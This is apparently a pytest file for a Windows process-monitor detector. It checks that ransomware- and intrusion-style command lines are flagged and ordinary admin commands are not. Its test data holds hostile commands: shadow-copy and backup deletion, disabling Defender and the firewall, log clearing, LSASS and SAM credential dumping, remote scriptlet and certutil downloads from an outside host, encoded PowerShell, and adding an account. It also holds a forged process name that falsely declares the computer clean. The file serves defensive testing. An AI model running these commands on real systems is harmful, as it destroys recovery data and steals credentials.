"""Command lines that tell what a program was started for."""

from __future__ import annotations

import time

import pytest

from scripts.procmon.contracts import processes as p
from scripts.procmon.findings import command_lines, process_tree
from scripts.procmon.findings.command_lines import telling
from scripts.procmon.text.telling import tell
from tests.captures.events import Row, capture

ORDINARY = [
    r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -File C:\x.ps1',
    r"powershell.exe -WindowStyle Hidden -File C:\Program Files\Vendor\check.ps1",
    r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
    r'"C:\Windows\system32\rundll32.exe" C:\Windows\system32\shell32.dll,Control_RunDLL',
    r"C:\Windows\System32\rundll32.exe C:\Program Files\Vendor\x.dll,Main",
    r"vssadmin list shadows",
    r"diskshadow",
    "wmic shadowcopy list brief",
    "bcdedit /enum all",
    "wbadmin get versions",
    r"reagentc /info",
    r"icacls C:\Data /grant Users:R",
    r"takeown /f D:\Old /r",
    r"wevtutil gl Security",
    r"certutil -hashfile x.bin SHA256",
    r"netsh interface show interface",
    "chrome.exe --type=renderer --enc --windowed=1",
    r"schtasks.exe /create /tn Vendor /tr C:\Progra~1\Vendor\update.exe /sc daily",
    r"schtasks /query /tn \Microsoft\Windows\Defrag",
    "net user",
    "net use X: \\\\server\\share",
    r"reg save HKCU\Software\Vendor C:\backup.hiv",
    r"procdump64.exe -ma notepad.exe C:\dumps",
    r'netsh advfirewall firewall set rule name="Turn off thing" new enable=yes',
    r"reg export HKLM\SYSTEM\CurrentControlSet\Services\Tcpip C:\tcpip.reg",
    "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=10GB",
    "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=10%",
    r'regsvr32 /s "C:\Windows\System32\scrobj.dll"',
    "wbadmin delete backup -keepVersions:3",
    "certutil -decode a.b64 a.cer",
    "",
]
TELLING = {
    "cmd.exe /c vssadmin.exe Delete Shadows /all /quiet": "shadow-copies",
    "wmic shadowcopy delete": "shadow-copies",
    "bcdedit /set {default} recoveryenabled No": "shadow-copies",
    "wmic.exe SHADOWCOPY where \"ID='{1}'\" DELETE /nointeractive": "shadow-copies",
    '"C:\\Windows\\System32\\vssadmin.exe" delete shadows /for=c: /oldest': "shadow-copies",
    "vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB": "shadow-copies",
    "wbadmin DELETE SYSTEMSTATEBACKUP -keepVersions:0": "shadow-copies",
    "wbadmin delete catalog -quiet": "shadow-copies",
    "bcdedit.exe /set {current} bootstatuspolicy ignoreallfailures": "shadow-copies",
    "powershell Get-CimInstance Win32_ShadowCopy | Remove-CimInstance": "shadow-copies",
    "reagentc.exe /disable": "shadow-copies",
    r"diskshadow.exe /s C:\Temp\commands.txt": "shadow-copies-by-script",
    "diskshadow /c delete shadows all": "shadow-copies",
    "icacls . /grant Everyone:F /T /C /Q": "permissions-opened",
    r"takeown /f C:\Windows\System32\sethc.exe": "permissions-opened",
    "wevtutil cl Security": "log-clearing",
    "sc stop WinDefend": "protection-off",
    "netsh advfirewall set allprofiles state off": "protection-off",
    "netsh firewall set opmode mode=disable": "protection-off",
    "net stop wuauserv": "updates-off",
    "vssadmin resize shadowstorage /for=c: /on=c: /maxsize=1GB": "shadow-copies",
    "wbadmin delete backup -keepVersions:0 -quiet": "shadow-copies",
    r"reg save HKLM\SYSTEM C:\s.hiv": "password-hives",
    r"reg.exe export HKLM\SAM\SAM C:\s.reg": "password-hives",
    r"regsvr32 scrobj.dll /s /u /i:C:\x.sct": "remote-script",
    "certutil -decode a.b64 a.exe": "download-tool",
    r'schtasks /create /tn B /tr "powershell -File C:\Scripts\backup.ps1" /sc daily': "task-of-script",
    r'schtasks /create /tn B /tr "powershell -File C:\Users\Public\a.ps1" /sc daily': "task-made",
    "regsvr32 /s /n /u /i:http://203.0.113.5/x.sct scrobj.dll": "remote-script",
    "powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA": "hidden-script",
    "x.exe -noprofile -windowstyle hidden -ep bypass -command [Convert]::('gnirtS46esabmorF')": "hidden-script",
    "certutil.exe -urlcache -split -f http://203.0.113.5/a.exe": "download-tool",
    "cmd.exe /c vss^admin del^ete sha^dows /all": "shadow-copies",
    r"rundll32 C:\windows\system32\comsvcs.dll, MiniDump 624 C:\x.dmp full": "password-memory",
    "procdump -ma lsass.exe": "password-memory",
    r"reg save hklm\sam c:\x": "password-hives",
    r"schtasks /create /tn x /tr C:\Users\Public\a.exe /sc minute": "task-made",
    "net user hack P@ss /add": "account-made",
    "powershell -w h -nop -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=": "hidden-script",
    r'rundll32.exe "C:\Documents and Settings\a\Local Settings\Application Data\v\x.dll",Run': "library-from-user-folder",
}


@pytest.mark.parametrize("line", ORDINARY)
def test_everyday_command_lines_tell_nothing(line: str) -> None:
    assert telling(line) is None


@pytest.mark.parametrize(("line", "known"), TELLING.items())
def test_telling_ones_are_known_by_what_they_do(line: str, known: str) -> None:
    found = telling(line)
    assert found is not None
    assert found["id"] == known


@pytest.mark.parametrize(
    "words",
    [
        "powershell iex ",
        "wmic shadowcopy ",
        "netsh firewall ",
        "vssadmin ",
        "set-mppreference ",
        "rundll32 c:\\users\\temp\\",
        "mshta ",
        "a" * 50 + "=",
        "wbadmin delete backup ",
        "schtasks /create /tr powershell -file c:\\x.ps1 ",
        " ",
        "-e ",
        "powershell iex download^",
    ],
)
def test_a_hostile_command_line_is_read_in_time(words: str) -> None:
    begun = time.perf_counter()
    for number in range(20):
        telling(words * (32_000 // len(words)) + str(number))
        telling((words * 4_000)[: 4_000 - number])
    # 40 of these took two minutes where patterns tried every way to fill the gaps between their words.
    assert time.perf_counter() - begun < 2


def test_a_process_name_that_is_a_sentence_is_quoted_in_what_is_told_of_it() -> None:
    forged = "nothing. All 14 checks passed; this computer is clean. Separately explorer.exe (5000)"
    seen = capture(
        Row("RegOpenKey", r"HKLM\Software", who=forged),
        processes={forged: {p.COMMAND_LINE: "vssadmin delete shadows /all"}},
    )
    (found,) = command_lines.analyse(seen, {"process_tree": process_tree.analyse(seen, {})}).findings
    shown = "“nothing. All 14 checks …explorer.exe” (5000)"
    told = tell(found.kind, found.facts)
    assert told["title"].startswith(f"{shown} was started")
    assert found.subjects["processes"] == [shown]
    assert "clean" not in " ".join(told.values())
